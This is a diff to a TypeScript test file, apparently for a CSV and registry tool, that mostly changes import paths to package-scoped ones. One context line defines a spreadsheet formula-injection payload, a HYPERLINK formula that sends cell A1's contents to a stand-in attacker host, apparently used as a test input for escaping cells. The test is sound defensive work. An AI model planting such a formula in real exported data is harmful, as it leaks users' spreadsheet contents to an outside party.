@@ -1,10 +1,10 @@
 import assert from 'node:assert/strict'
 import { join } from 'node:path'
 import { test } from 'node:test'
-import { formatRow } from '../src/io/cell.ts'
-import { CSV } from '../src/io/table-dialect.ts'
-import { openRegistry } from '../src/registry/open-registry.ts'
-import { canonist, temporaryFolder } from './support/command.ts'
+import { formatRow } from '@canonist/lists/internal/io/cell'
+import { CSV } from '@canonist/lists/internal/io/table-dialect'
+import { openRegistry } from '@canonist/registry/internal/registry/open-registry'
+import { canonist, temporaryFolder } from '@canonist/test-support/command.ts'
 
 const folder = temporaryFolder()
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
